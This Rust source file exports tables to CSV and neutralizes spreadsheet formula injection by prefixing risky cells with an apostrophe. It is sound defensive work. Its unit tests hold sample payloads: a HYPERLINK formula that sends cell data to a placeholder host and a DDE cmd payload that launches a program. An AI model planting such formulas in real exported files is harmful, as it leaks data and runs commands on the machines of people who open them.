//! CSV export (RFC 4180): every table and KPI the API lists can be downloaded as CSV.
//! Rows are serialized with serde and their fields written in a fixed column order.
//!
//! No cell is ever a live spreadsheet formula. Staff type the free text that reaches
//! these files (notes, answers, item names), and a manager opens them in Excel or
//! LibreOffice: a text cell that starts with `=`, `+`, `-`, `@`, tab or carriage return
//! is written with a leading `'` (OWASP's advice for CSV injection), which spreadsheets
//! show as text, and the cell is put in quotes too, as that advice asks. Numbers stay
//! numbers; the master-data import reads the `'` back off.
//!
//! Reading is the `csv` crate's (`masterdata::csv_read`). Writing is these few lines
//! instead: the crate's writer quotes by one style for every field and cannot quote a
//! neutralized cell on its own.

use std::borrow::Cow;

use serde::{Serialize, Serializer};
use serde_json::Value;

/// A row type's CSV header: its serialized field names, in the order to write them.
pub trait CsvColumns {
    const COLUMNS: &'static [&'static str];
}

/// What a spreadsheet reads as the start of a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One CSV text field: neutralized if a spreadsheet would run it as a formula, then
/// quoted when it holds a comma, a quote, a line break or a leading `'`.
pub fn escape(field: &str) -> String {
    let field = neutralize(field);
    if field.contains([',', '"', '\n', '\r']) || field.starts_with('\'') {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field.into_owned()
    }
}

/// `'` before a text that starts like a formula; plain numbers (`-3`, `+2.5`) are left
/// alone, since spreadsheets read them as numbers and never run them.
fn neutralize(field: &str) -> Cow<'_, str> {
    if field.starts_with(FORMULA_START) && !is_plain_number(field) {
        Cow::Owned(format!("'{field}"))
    } else {
        Cow::Borrowed(field)
    }
}

fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, ""));
    !(whole.is_empty() && fraction.is_empty())
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

/// A cell read from a CSV file as its author meant it: the `'` that [`escape`] put
/// before a formula-like text is taken off again, so an export imports back unchanged.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_START) => rest,
        _ => cell,
    }
}

/// How a JSON value reads in a cell: empty for null, JSON text for lists and objects.
fn cell(value: Option<&Value>) -> String {
    match value {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(s)) => s.clone(),
        Some(other) => other.to_string(),
    }
}

/// A header line, then one line per row; lines end with CRLF.
pub fn to_csv<T: Serialize + CsvColumns>(rows: &[T]) -> Result<String, serde_json::Error> {
    let mut out = line(T::COLUMNS.iter().map(|c| (*c).to_owned()));
    for row in rows {
        let value = serde_json::to_value(row)?;
        out.push_str(&line(T::COLUMNS.iter().map(|c| cell(value.get(c)))));
    }
    Ok(out)
}

fn line(fields: impl Iterator<Item = String>) -> String {
    let mut text = fields.map(|f| escape(&f)).collect::<Vec<_>>().join(",");
    text.push_str("\r\n");
    text
}

/// Serializes a column that holds JSON text (lists the flattener stores as text) as the
/// JSON it holds, or as the plain string if it is not JSON.
pub fn raw_json<S: Serializer>(text: &str, serializer: S) -> Result<S::Ok, S::Error> {
    match serde_json::from_str::<Value>(text) {
        Ok(value) => value.serialize(serializer),
        Err(_) => serializer.serialize_str(text),
    }
}

/// [`raw_json`] for a column that may be NULL.
pub fn raw_json_opt<S: Serializer>(
    text: &Option<String>,
    serializer: S,
) -> Result<S::Ok, S::Error> {
    match text {
        Some(text) => raw_json(text, serializer),
        None => serializer.serialize_none(),
    }
}

/// Serializes a server time (Unix ms) as RFC 3339 UTC.
pub fn millis_as_rfc3339<S: Serializer>(ms: &i64, serializer: S) -> Result<S::Ok, S::Error> {
    serializer.serialize_str(&crate::time::rfc3339_millis(*ms))
}

#[cfg(test)]
pub(crate) fn assert_columns_match<T: Serialize + CsvColumns>(sample: &T) {
    let value = serde_json::to_value(sample).expect("serializes");
    let mut fields: Vec<&str> = value
        .as_object()
        .expect("an object")
        .keys()
        .map(String::as_str)
        .collect();
    let mut columns = T::COLUMNS.to_vec();
    fields.sort_unstable();
    columns.sort_unstable();
    assert_eq!(fields, columns, "CSV columns and serialized fields differ");
}

#[cfg(test)]
mod tests {
    use super::*;

    #[derive(Serialize)]
    struct Sample {
        name: String,
        qty: i64,
        note: Option<String>,
        #[serde(serialize_with = "raw_json")]
        tags: String,
        ok: bool,
    }

    impl CsvColumns for Sample {
        const COLUMNS: &'static [&'static str] = &["name", "qty", "note", "tags", "ok"];
    }

    #[test]
    fn escape_quotes_only_when_needed() {
        assert_eq!(escape("plain"), "plain");
        assert_eq!(escape("a,b"), "\"a,b\"");
        assert_eq!(escape("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(escape("two\nlines"), "\"two\nlines\"");
        assert_eq!(escape(""), "");
    }

    #[test]
    fn formulas_are_written_as_text_and_numbers_as_numbers() {
        assert_eq!(
            escape("=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")"),
            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"ok\"\")\""
        );
        assert_eq!(escape("=cmd|' /C calc'!A0"), "\"'=cmd|' /C calc'!A0\"");
        assert_eq!(escape("+1+1"), "\"'+1+1\"");
        assert_eq!(escape("-2 damaged"), "\"'-2 damaged\"");
        assert_eq!(escape("@SUM(A1)"), "\"'@SUM(A1)\"");
        assert_eq!(escape("\tx"), "\"'\tx\"");
        assert_eq!(escape("\rx"), "\"'\rx\"");
        for number in ["-3", "+2.5", "-.5", "12", "0.75"] {
            assert_eq!(escape(number), number, "{number} stays a number");
        }
        assert_eq!(escape("-"), "\"'-\"");
        assert_eq!(escape("a=b"), "a=b", "only the first character counts");
        assert_eq!(escape("'quoted"), "\"'quoted\"");
    }

    #[test]
    fn a_neutralized_cell_reads_back_as_written() {
        for text in [
            "=HYPERLINK(\"x\")",
            "-2 damaged",
            "@x",
            "plain",
            "'quoted",
            "-3",
        ] {
            let written = escape(text);
            let cell = written
                .strip_prefix('"')
                .and_then(|w| w.strip_suffix('"'))
                .map_or(written.clone(), |w| w.replace("\"\"", "\""));
            assert_eq!(restore(&cell), text);
        }
    }

    #[test]
    fn rows_follow_the_column_order_with_empty_nulls_and_json_lists() {
        let rows = [
            Sample {
                name: "Wrap, 500 mm".into(),
                qty: -3,
                note: None,
                tags: "[\"a\",\"b\"]".into(),
                ok: true,
            },
            Sample {
                name: "x".into(),
                qty: 0,
                note: Some("n".into()),
                tags: "not json".into(),
                ok: false,
            },
        ];
        let csv = to_csv(&rows).expect("csv");
        assert_eq!(
            csv,
            "name,qty,note,tags,ok\r\n\"Wrap, 500 mm\",-3,,\"[\"\"a\"\",\"\"b\"\"]\",true\r\nx,0,n,not json,false\r\n"
        );
        assert_columns_match(&rows[0]);
    }

    #[test]
    fn empty_table_is_just_the_header() {
        assert_eq!(
            to_csv::<Sample>(&[]).expect("csv"),
            "name,qty,note,tags,ok\r\n"
        );
    }
}
